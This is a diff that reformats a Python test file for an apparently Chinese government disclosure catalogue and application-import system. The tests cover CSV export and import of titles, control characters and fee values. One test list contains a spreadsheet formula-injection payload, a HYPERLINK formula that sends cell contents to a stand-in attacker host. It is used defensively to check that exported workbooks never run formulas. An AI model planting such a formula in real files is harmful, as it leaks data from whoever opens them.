@@ -42,8 +42,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "
 
 
 def test_catalogue_workbook_never_runs_a_formula(db, tmp_path):
-    rows = [{"标题": f, "文号": f, "公开属性": "主动公开", "发布日期": "2025-03-05"}
-            for f in FORMULAS]
+    rows = [
+        {"标题": f, "文号": f, "公开属性": "主动公开", "发布日期": "2025-03-05"} for f in FORMULAS
+    ]
     report = items_io.import_items(db.admin, _items_csv(tmp_path / "f.csv", rows))
     assert report.ok, report.errors
     # However the gate lets them through, a published item's title is what the catalogue prints.
@@ -63,10 +64,16 @@ def test_catalogue_workbook_never_runs_a_formula(db, tmp_path):
 
 
 def test_control_characters_in_a_title_do_not_break_the_register_export(db, tmp_path):
-    report = items_io.import_items(db.admin, _items_csv(tmp_path / "ok.csv", [
-        {"标题": "正常的通知", "公开属性": "主动公开"},
-        {"标题": "另一条通知", "公开属性": "主动公开"},
-    ]))
+    report = items_io.import_items(
+        db.admin,
+        _items_csv(
+            tmp_path / "ok.csv",
+            [
+                {"标题": "正常的通知", "公开属性": "主动公开"},
+                {"标题": "另一条通知", "公开属性": "主动公开"},
+            ],
+        ),
+    )
     assert report.ok
     # Someone pasted text with control characters (or wrote them with raw SQL).
     first = Item.select().order_by(Item.id).first()
@@ -77,17 +84,30 @@ def test_control_characters_in_a_title_do_not_break_the_register_export(db, tmp_
     assert "带控制字符的标题" in titles and "另一条通知" in titles
 
 
-@pytest.mark.parametrize("fee", ["1e300", "inf", "Infinity", "-inf", "nan", "NaN", "-1",
-                                 "12.345", "99999999999", "1.5e7"])
+@pytest.mark.parametrize(
+    "fee",
+    ["1e300", "inf", "Infinity", "-inf", "nan", "NaN", "-1", "12.345", "99999999999", "1.5e7"],
+)
 def test_absurd_fees_are_refused_at_import(db, tmp_path, fee):
     path = tmp_path / "apps.csv"
     with open(path, "w", encoding="utf-8-sig", newline="") as fh:
         w = csv.DictWriter(fh, list(APP_HEADERS))
         w.writeheader()
-        w.writerow({h: "" for h in APP_HEADERS} | {
-            "收到日期": "2025-03-05", "申请方式": "当面", "申请人类型": "自然人", "申请人": "李四",
-            "证件号码": valid_id(11), "申请内容": "某文件", "办理结果": "予以公开",
-            "答复日期": "2025-03-20", "是否延期": "否", "收费金额": fee})
+        w.writerow(
+            {h: "" for h in APP_HEADERS}
+            | {
+                "收到日期": "2025-03-05",
+                "申请方式": "当面",
+                "申请人类型": "自然人",
+                "申请人": "李四",
+                "证件号码": valid_id(11),
+                "申请内容": "某文件",
+                "办理结果": "予以公开",
+                "答复日期": "2025-03-20",
+                "是否延期": "否",
+                "收费金额": fee,
+            }
+        )
     report = import_applications(db.admin, path)
     assert not report.ok
     assert [e.column for e in report.errors] == ["收费金额"]
